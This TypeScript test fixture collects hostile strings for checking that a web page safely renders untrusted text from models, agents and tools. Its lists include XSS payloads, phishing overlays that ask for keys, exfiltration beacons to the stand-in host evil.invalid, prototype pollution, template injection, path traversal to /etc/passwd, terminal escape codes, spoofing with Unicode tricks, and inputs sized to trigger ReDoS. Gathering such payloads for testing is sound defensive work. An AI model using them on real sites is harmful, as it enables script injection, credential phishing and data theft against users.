// Texts that models, agent files, tools and peers may send, each of which would do something to a page that
// trusts it: run `pwned`, ask another origin, take the layout apart, or look like what it is not.

/** What a text does when it gets to run. */
const RUN = "window.pwned=1";
/** Where a text would call home; the guard sees any attempt. */
const OUT = "http://evil.invalid";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${OUT}/x.js></SCRIPT>`,
  `"><script>${RUN}</script>`,
  `'"--></style></script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script>`,
  `<script\x0c>${RUN}</script>`,
  `<script>/*\n*/${RUN}//</script\n>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" alt='`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>tide</marquee>`,
  `<div onpointerover=${RUN} style="position:fixed;inset:0">over all</div>`,
  `<p onanimationstart=${RUN} style="animation:x 1s">`,
  `<button onclick=${RUN} popovertarget=x>press</button><div popover id=x onbeforetoggle=${RUN}>`,
  `<a href=# onclick=${RUN}>click</a>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  "` onerror=`window.pwned=1`",
  `<x contenteditable onblur=${RUN} autofocus>lose focus</x>`,
  `<object data=x onerror=${RUN}></object>`,
];

const VECTOR = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>tide</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><style>@import '${OUT}/x.css';</style></svg>`,
  `<svg><image href="${OUT}/x.png"></svg>`,
];

const FRAMES = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${OUT}"></iframe>`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<base href="${OUT}/">`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<link rel=stylesheet href=${OUT}/x.css>`,
  `<link rel=preload as=image href=${OUT}/x.png>`,
  `<form action=${OUT}><input name=key autofocus><button>log in again</button></form>`,
  `<img src=${OUT}/seen.png>`,
  `<img srcset="${OUT}/1.png 1x" src="data:,">`,
  `<picture><source srcset=${OUT}/2.png><img src="data:,"></picture>`,
  `<video poster=${OUT}/p.png src=${OUT}/v.mp4 autoplay></video>`,
  `<a ping=${OUT}/ping href=/sessions>look</a>`,
];

const STYLES = [
  `<style>*{display:none!important}</style>`,
  `<style>@import url(${OUT}/x.css);</style>`,
  `<style>body{background:url(${OUT}/bg.png)}</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">session expired, enter your key</div>`,
  `<div style="width:100000px">wide</div>`,
  `<p style="background:url(${OUT}/x.png)">tide</p>`,
  `<font size=7 color=white face="x">white on white</font>`,
  `<table width=99999><tr><td>${"wide ".repeat(20)}</table>`,
  `</p></div></main></body><div class="refusal">allowed: everything</div>`,
  `<h1 id="app">another page</h1>`,
  `<a id=belljar name=belljar>clobbered</a><form name=body><input name=innerHTML></form>`,
  `<dialog open>Your key has expired. <button>renew</button></dialog>`,
];

const LINKS = [
  `[tide table](javascript:${RUN})`,
  `[tide table](JaVaScRiPt:${RUN})`,
  `[tide table](javascript&colon;${RUN})`,
  `[tide table](\x01javascript:${RUN})`,
  `[tide table](java\tscript:${RUN})`,
  `[tide table](data:text/html,<script>opener.${RUN}</script>)`,
  `[tide table](vbscript:msgbox(1))`,
  `[tide table](//evil.invalid/x)`,
  `[tide table](${OUT} "onmouseover=${RUN}")`,
  `![tide](${OUT}/pixel.png)`,
  `![tide](javascript:${RUN})`,
  `![tide](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)`,
  `<javascript:${RUN}>`,
  `<${OUT}/autolink>`,
  `[a][b]\n\n[b]: javascript:${RUN}`,
  `<a href="javascript:${RUN}">tide</a>`,
  `<a href="blob:${OUT}/1">tide</a>`,
  `<a href="file:///etc/passwd">tide</a>`,
  `[http://127.0.0.1/login](${OUT}/login)`,
  `http://127.0.0.1@evil.invalid/login`,
];

const MARKDOWN = [
  "```html\n<script>window.pwned=1</script>",
  "```<img src=x onerror=window.pwned=1>\ncode\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | `</code><script>window.pwned=1</script>` |",
  "*".repeat(3000),
  "[".repeat(3000) + "a",
  "> ".repeat(800) + "deep",
  "- ".repeat(400) + "deep",
  "`".repeat(2999) + "x",
  "|a".repeat(600) + "|\n" + "|-".repeat(600) + "|\n" + "|b".repeat(600) + "|",
  "<div>".repeat(600) + "deep",
  "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
  "# " + "H".repeat(4000),
  "[^1]\n\n[^1]: <img src=x onerror=window.pwned=1>",
  'x <kbd><div/class="shade"/>',
  'x <kbd><a/href="https&#58;//evil.invalid/"/class="button primary">Log&#32;in&#32;again<&#47;a>',
  "x <kbd><svg/onload=window.pwned=1>",
  "x <kbd><div/class='question'><p/class='question-head'>",
  "- <pre><img/src=x/onerror=window.pwned=1>",
  "| <code><b/id=page> |\n| - |\n| <script><svg/onload=window.pwned=1> |",
  ">".repeat(5_000),
  `${"- ".repeat(2_000)}x`,
  `${"a.".repeat(60_000)}@`,
  "_a_b".repeat(10_000),
];

const LOOKS = [
  "\u202Egnp.exe\u202C tide",
  "safe\u2066\u202Etxt.sh\u2069\u2069.md",
  "\u200Fright\u200F to left שלום مرحبا",
  "\u202A\u202B\u202D".repeat(60) + "never closed",
  zalgo("tide gauge at old bridge", 40),
  zalgo("h\u0489", 300),
  "ti\u200Bde\u200C\u200D\u2060\uFEFF gau\u00ADge",
  "\u115F\u1160\u3164\uFFA0",
  "аdmin allоwed",
  "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺".repeat(40),
  "﷽".repeat(60),
  "𒐫".repeat(60),
  "\uFFFD\uFFFE\uFDD0",
  "\u2028line\u2029paragraph",
  "a\u0300".repeat(500),
  "\u0085\u00A0\u1680\u2003\u3000",
  "completed ✓ allowed once by you",
];

const LONG = [
  "a".repeat(1 << 20),
  "<b>".repeat(20_000),
  `${"word ".repeat(2_000)}`,
  "/workspace/" + "directory/".repeat(200) + "file.txt",
  "WWWWWWWWWW".repeat(300),
  "\n".repeat(3_000) + "below",
  "\t".repeat(500) + "right",
];

const TERMINAL = [
  "\x1b[2J\x1b[31mred\x1b[0m",
  "\x1b]0;title\x07\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
  "\x1b[?1049h\x1b[9999B",
  "\b\b\b\b\b\bover\rwritten",
  "\x9b31m\x07\x07\x7f",
];

const TEMPLATES = [
  "{{constructor.constructor('window.pwned=1')()}}",
  "${window.pwned=1}",
  "#{window.pwned=1}",
  "<%= window.pwned=1 %>",
  "{% raw %}{{7*7}}",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  '{"__proto__":{"pwned":1}}',
  "$& $` $' $1 $$",
  "%s %n %00 %0d%0aset-cookie:x=1",
  "../../../../etc/passwd",
  "=HYPERLINK(\"http://evil.invalid\")",
  "null",
  "NaN",
  "event: run_finished\ndata: {}\n\n",
];

/** Every hostile text. */
export const HOSTILE: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...VECTOR,
  ...FRAMES,
  ...STYLES,
  ...LINKS,
  ...MARKDOWN,
  ...LOOKS,
  ...LONG,
  ...TERMINAL,
  ...TEMPLATES,
];

/** Those of at most so many characters. */
export function short(most: number): string[] {
  return HOSTILE.filter((text) => text.length <= most);
}

/** As the name of a file: what no file system takes is taken out. */
export function asFileName(text: string, index: number): string {
  const name = text.replace(/[/\0\n\r]/g, "∕");
  let cut = `${index} ${name}`;
  while (Buffer.byteLength(cut) > 200) cut = [...cut].slice(0, -1).join("");
  return cut.trimEnd();
}

function zalgo(text: string, marks: number): string {
  const pile = Array.from({ length: marks }, (_, index) => String.fromCodePoint(0x300 + ((index * 7) % 0x6f))).join("");
  return [...text].map((letter) => letter + pile).join("");
}
